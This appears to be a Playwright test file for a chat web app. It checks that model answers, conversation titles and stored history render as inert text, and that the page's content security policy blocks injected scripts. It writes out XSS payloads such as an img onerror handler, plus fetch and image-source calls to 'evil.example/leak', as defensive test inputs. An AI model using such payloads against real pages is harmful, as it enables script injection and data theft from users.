"""Whatever a model says is text: no script runs, nothing leaves the origin, and the page stays whole."""

from __future__ import annotations

from typing import Any

import pytest
from playwright.async_api import expect

from aiochatstream import ChatStream
from tests.page.attacks import ATTACKS
from tests.page.chat_page import Chat, repeats
from tests.page.conftest import Visit

pytestmark = pytest.mark.asyncio(loop_scope="session", loop_factories=["asyncio"])

FOUND = """() => {
  const wrong = window.hacked === undefined ? [] : ["a script ran"];
  const elements = "script, style, link, meta, base, iframe, object, embed, form, input, svg *, math, video, audio, " +
    "template, details, picture, dialog, canvas";
  for (const answer of document.querySelectorAll("[data-role=answer], [data-role=message]")) {
    for (const one of answer.querySelectorAll(elements)) {
      if (!one.closest("button")) wrong.push(one.outerHTML); // buttons have icons of the page's own
    }
    for (const one of answer.querySelectorAll("*")) {
      for (const { name, value } of one.attributes) {
        const allowed = name !== "style" && name !== "id" && name !== "name" && !name.startsWith("on");
        if (!allowed) wrong.push(`${name}=${value}`);
      }
    }
    for (const one of answer.querySelectorAll("[href]")) {
      if (!/^(https?|mailto):/.test(one.href)) wrong.push(`link to ${one.href}`);
      if (!/noopener/.test(one.rel) || !/noreferrer/.test(one.rel)) wrong.push(`rel=${one.rel}`);
    }
    for (const one of answer.querySelectorAll("[src]")) {
      if (!/^data:image\\//.test(one.src)) wrong.push(`source ${one.src}`);
    }
  }
  return wrong;
}"""


async def test_no_attack_runs_calls_home_or_breaks_the_page(start: Any, visit: Visit) -> None:
    server = await start(ChatStream(engine=repeats, max_new_tokens=100_000))
    chat = Chat(await visit(server.url))
    chat.page.on("dialog", lambda dialog: pytest.fail(dialog.message))
    for name, attack in ATTACKS.items():
        await chat.ask(attack)
        assert await chat.page.evaluate(FOUND) == [], name
        await chat.page.locator("#new-chat").click()
    await chat.ask("- fine\n")
    await expect(chat.answer().locator("li")).to_have_text("fine")


async def test_a_history_of_attacks_is_as_harmless_as_the_answers_were(start: Any, visit: Visit) -> None:
    server = await start(ChatStream(engine=repeats, max_new_tokens=100_000))
    chat = Chat(await visit(server.url))
    context = chat.page.context
    for attack in ATTACKS.values():
        answer = await context.request.post(
            f"{server.url}/chat_stream", data={"user_input": attack}, headers={"Accept": "application/json"}
        )
        assert answer.status == 200
    await chat.page.reload()
    await expect(chat.turns).to_have_count(len(ATTACKS))
    assert await chat.page.evaluate(FOUND) == []
    assert context.pages == [chat.page]
    await expect(chat.message).to_be_visible()


async def test_a_conversations_title_is_text(start: Any, visit: Visit) -> None:
    chat = Chat(await visit((await start(ChatStream(engine=repeats))).url))
    title = '<img src=x onerror="window.hacked=1">'
    await chat.ask(title)
    await expect(chat.page.locator("#conversations")).to_contain_text(title)
    await expect(chat.page.locator("#heading")).to_have_text(title)
    assert await chat.page.evaluate("window.hacked") is None


async def test_the_policy_would_stop_what_got_through(start: Any, visit: Visit, problems: list[str]) -> None:
    page = await visit((await start(ChatStream(engine=repeats))).url)
    for attempt in (
        "document.body.append(Object.assign(document.createElement('script'), {textContent: 'window.hacked=1'}))",
        "document.body.append(Object.assign(new Image(), {src: 'https://evil.example/leak'}))",
        "fetch('https://evil.example/leak').catch(() => {})",
        "document.body.innerHTML = '<img src=x onerror=window.hacked=1>'",
        "document.body.style.color = 'red', document.body.setAttribute('style', 'color: red')",
        "setTimeout('window.hacked=1')",
    ):
        with_errors = f"(() => {{ try {{ {attempt} }} catch {{}} }})()"
        await page.evaluate(with_errors)
    assert await page.evaluate("window.hacked") is None
    assert any("violates" in problem for problem in problems)
    problems.clear()
